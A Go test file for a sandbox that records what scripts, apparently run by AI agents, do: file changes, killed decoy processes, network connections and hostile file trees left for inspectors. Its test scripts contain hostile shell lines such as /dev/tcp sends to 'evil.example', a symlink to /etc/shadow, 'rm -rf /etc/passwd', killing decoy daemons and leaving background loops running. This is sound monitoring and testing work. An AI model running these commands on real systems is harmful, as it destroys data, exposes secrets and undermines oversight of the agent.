package sandbox_test

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"litmus/internal/digest"
	"litmus/internal/treehash"
	"litmus/sandbox"
	"litmus/sandbox/sandboxtest"
)

// expectSame compares everything but the facts.
func expectSame(t *testing.T, a, b sandbox.Outcome) {
	t.Helper()
	a.Facts, b.Facts = sandbox.Facts{}, sandbox.Facts{}
	if !bytes.Equal(a.Stdout.Head, b.Stdout.Head) {
		t.Errorf("stdout differs:\n%s\n%s", a.Stdout.Head, b.Stdout.Head)
	} else if !reflect.DeepEqual(a, b) {
		t.Errorf("outcomes differ:\n%+v\n%+v", a, b)
	}
}

func TestWatchedPathsAreSeenBeforeAndAfter(t *testing.T) {
	onEveryDaemon(t, func(t *testing.T, b boxes) {
		spec := b.spec(`rm /srv/gone; echo new > /srv/made; echo two > /srv/changed; chmod 600 /srv/mode; mkdir /srv/dir
			rm /srv/swapped; ln -s /etc/shadow /srv/swapped; ln -s / /srv/up; rm -r /srv/tree; touch /srv/same; mv /srv/file /srv/moved`,
			file("/srv/gone", "g"), file("/srv/changed", "one\n"), file("/srv/mode", "m"), file("/srv/swapped", "s"),
			file("/srv/tree/leaf", "l"), file("/srv/same", "same"), file("/srv/file", "f"))
		spec.Watch = []string{
			"/srv/gone", "/srv/made", "/srv/changed", "/srv/mode", "/srv/dir", "/srv/swapped", "/srv/up/srv/changed",
			"/srv/tree/leaf", "/srv/same", "/srv/file/below", "/proc/self/environ", "/srv/up",
		}
		outcome := b.run(t, spec)
		describe := func(s sandbox.State) string {
			if !s.Exists {
				return "-"
			}
			return fmt.Sprintf("%s %o %q", s.Type, s.Mode, s.Head)
		}
		var got []string
		for _, w := range outcome.Evidence.Watched {
			got = append(got, fmt.Sprintf("%s: %s → %s", w.Path, describe(w.Before), describe(w.After)))
		}
		want := []string{
			`/srv/gone: file 644 "g" → -`,
			`/srv/made: - → file 644 "new\n"`,
			`/srv/changed: file 644 "one\n" → file 644 "two\n"`,
			`/srv/mode: file 644 "m" → file 600 "m"`,
			`/srv/dir: - → dir 755 ""`,
			`/srv/swapped: file 644 "s" → symlink 0 "/etc/shadow"`,
			`/srv/up/srv/changed: - → file 644 "two\n"`,
			`/srv/tree/leaf: file 644 "l" → -`,
			`/srv/same: file 644 "same" → file 644 "same"`,
			`/srv/file/below: - → -`,
			`/proc/self/environ: - → -`,
			`/srv/up: - → symlink 0 "/"`,
		}
		if !slices.Equal(got, want) {
			t.Errorf("got %s\nwant %s", strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
		if s := outcome.Evidence.Watched[2].After; s.Size != 4 || s.Hash != digest.Sum([]byte("two\n")) {
			t.Errorf("%+v", s)
		}
	})
}

func TestDecoysThatDieAreSeen(t *testing.T) {
	onEveryDaemon(t, func(t *testing.T, b boxes) {
		spec := b.spec(`cat /proc/100/cmdline | tr '\0' ' '; echo; kill 101; kill -STOP 102; while kill -0 101 2>/dev/null; do :; done
			(exec -a ledgerd sleep 1000 >/dev/null 2>&1 &)`)
		spec.Decoys = []sandbox.Process{{Name: "sshd", Args: []string{"-D"}}, {Name: "ledgerd", Args: []string{"sleep", "600"}}, {Name: "cron"}}
		outcome := b.run(t, spec)
		want := []sandbox.DecoyState{{Name: "sshd", Alive: true}, {Name: "ledgerd", Alive: false}, {Name: "cron", Alive: true}}
		if !slices.Equal(outcome.Evidence.Decoys, want) {
			t.Errorf("decoys %+v (%s)", outcome.Evidence.Decoys, outcome.Stderr.Head)
		}
		expectStream(t, "stdout", outcome.Stdout, "sshd -D \n")
	})
}

func TestConnectionsAreRecordedWhateverTheirOrder(t *testing.T) {
	onEveryDaemon(t, func(t *testing.T, b boxes) {
		say := func(host string, port int, text string) string {
			return fmt.Sprintf("(exec 3<>/dev/tcp/%s/%d; echo -n %s >&3) & ", host, port, text)
		}
		spec := b.spec(say("evil.example", 80, "zzz") + say("evil.example", 80, "aaaa") + say("127.0.0.1", 443, "ip") + say("bank.example", 80, "b") + "wait")
		spec.Listeners = []sandbox.Endpoint{{Host: "evil.example", Port: 80}, {Host: "bank.example", Port: 80}, {Host: "127.0.0.1", Port: 443}}
		outcome := b.run(t, spec)
		var got []string
		for _, c := range outcome.Evidence.Connections {
			got = append(got, fmt.Sprintf("%s:%d %s", c.Host, c.Port, c.Head))
			if c.Bytes != int64(len(c.Head)) || c.Hash != digest.Sum(c.Head) {
				t.Errorf("%+v", c)
			}
		}
		if want := []string{"127.0.0.1:443 ip", "bank.example:80 b", "evil.example:80 zzz", "evil.example:80 aaaa"}; !slices.Equal(got, want) {
			t.Errorf("got %q (%s)", got, outcome.Stderr.Head)
		}
	})
}

func TestManyConnectionsTakeNoMemoryAndAreCounted(t *testing.T) {
	b := openBoxes(t, sandboxtest.Private)
	spec := b.spec(fmt.Sprintf("for i in {1..%d}; do exec 3<>/dev/tcp/127.0.0.1/80; echo $i >&3; exec 3>&-; done", sandbox.MaxConnections+500))
	spec.Listeners = []sandbox.Endpoint{{Host: "127.0.0.1", Port: 80}}
	got := b.run(t, spec).Evidence
	if len(got.Connections) != sandbox.MaxConnections || got.ConnectionsTotal != sandbox.MaxConnections+500 {
		t.Errorf("%d of %d connections", len(got.Connections), got.ConnectionsTotal)
	}
}

// Eight boxes at once, each writing a megabyte to both streams as fast as it can.
func TestOutputIsCompleteToTheLastByteUnderLoad(t *testing.T) {
	onEveryDaemon(t, func(t *testing.T, b boxes) {
		line := strings.Repeat("0123456789abcde\n", 64) // 1 KiB
		want := strings.Repeat(line, 1024)
		spec := b.spec(`line=$(cat /srv/line); for i in {1..1024}; do echo "$line"; echo "$line" >&2; done; echo -n out; echo -n err >&2`, file("/srv/line", line))
		spec.Limits.Output = 100_000
		var all sync.WaitGroup
		for range 8 {
			all.Go(func() {
				outcome, err := b.Run(t.Context(), spec)
				if err != nil {
					t.Error(err)
					return
				}
				for name, s := range map[string]sandbox.Stream{"out": outcome.Stdout, "err": outcome.Stderr} {
					if s.Hash != digest.Sum([]byte(want+name)) || s.Total != int64(len(want))+3 || !s.Truncated || string(s.Head) != want[:100_000] {
						t.Errorf("std%s has %d bytes of %d", name, s.Total, len(want)+3)
					}
				}
			})
		}
		all.Wait()
	})
}

func TestHugeOutputIsCountedAndHashed(t *testing.T) {
	b := openBoxes(t, sandboxtest.Private)
	outcome := b.run(t, b.spec("head -c 500m /dev/zero"))
	want := digest.NewWriter()
	zeros := make([]byte, 1<<20)
	for range 500 {
		want.Write(zeros)
	}
	if outcome.Stdout.Total != 500<<20 || outcome.Stdout.Hash != want.Sum() || len(outcome.Stdout.Head) != 1<<20 {
		t.Errorf("%d bytes, hash %s", outcome.Stdout.Total, outcome.Stdout.Hash)
	}
}

// The contamination of the instance-boundary record: agents that overwrite a
// configuration file, leave a process behind and write wherever they can.
func TestABoxSeesNothingOfAnother(t *testing.T) {
	onEveryDaemon(t, func(t *testing.T, b boxes) {
		script := func(i int) string {
			return fmt.Sprintf(`cat /etc/app.conf /scratch/* /tmp/* /dev/shm/* /root/.x /left /usr/bin/x 2>/dev/null; echo /proc/[0-9]*
				for f in /etc/app.conf /scratch/x /tmp/x /dev/shm/x /root/.x /left /usr/bin/x; do echo %d >> $f; done
				(setsid bash -c 'while true; do :; done' >/dev/null 2>&1 &)
				rm -rf /etc/passwd`, i)
		}
		specs := make([]sandbox.Spec, 8)
		alone := make([]sandbox.Outcome, len(specs))
		for i := range specs {
			specs[i] = b.spec(script(i), file("/etc/app.conf", "clean\n"))
			alone[i] = b.run(t, specs[i])
			if got := string(alone[i].Stdout.Head); !strings.HasPrefix(got, "clean\n") || strings.Count(got, "\n") != 2 {
				t.Fatalf("box %d saw %q", i, got)
			}
			if want := []string{
				"changed /etc/app.conf", "deleted /etc/passwd", "added /left", "added /root/.x", "added /scratch/x", "added /tmp/x", "added /usr/bin/x",
			}; !slices.Equal(changed(alone[i]), want) {
				t.Errorf("changes %q", changed(alone[i]))
			}
			if alone[i].Evidence.Shm == alone[0].Evidence.Shm && i > 0 {
				t.Error("what is in /dev/shm does not show")
			}
		}
		var all sync.WaitGroup
		for _, i := range rand.Perm(len(specs)) {
			all.Go(func() {
				outcome, err := b.Run(t.Context(), specs[i])
				if err != nil {
					t.Error(err)
					return
				}
				expectSame(t, alone[i], outcome)
			})
		}
		all.Wait()
	})
}

func TestScratchIsHashedAsItIsAtTheEnd(t *testing.T) {
	onEveryDaemon(t, func(t *testing.T, b boxes) {
		scratch := func(script string) digest.Hash { return b.run(t, b.spec(script)).Evidence.Scratch }
		empty := scratch("true")
		if got := scratch("echo a > f; rm f"); got != empty {
			t.Error("an empty scratch root is not like another")
		}
		if got := scratch("echo a > f"); got == empty {
			t.Error("a file does not show")
		}
		if got := scratch("cd /; rmdir /scratch"); got != treehash.NewLister().Sum() {
			t.Errorf("no scratch root at all: %s", got)
		}
		if scratch("cd /; rmdir /scratch; ln -s / /scratch") == empty {
			t.Error("a link in its place does not show")
		}
	})
}

// What an agent can build to hurt whoever looks at it afterwards.
func TestHostileTreesAreReadInTime(t *testing.T) {
	b := openBoxes(t, sandboxtest.Private)
	outcome := b.run(t, b.spec(`
		mkfifo fifo; truncate -s 1099511627776 huge || exit; ln -s /proc/self/environ env; ln -s loop loop; printf x > $'new\nline\xff'; mkdir dark; touch dark/x; chmod 0 dark
		d=nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn
		for i in {1..200}; do mkdir $d && cd -P $d || exit 1; done
		cd /scratch; for i in {1..500}; do ln huge h$i; done`))
	if outcome.Exit.Code != 0 {
		t.Fatalf("%+v %s", outcome.Exit, outcome.Stderr.Head)
	}
	if got := outcome.Evidence; got.ChangesTotal != 7+200+500 {
		t.Errorf("%d changes", got.ChangesTotal)
	}
}
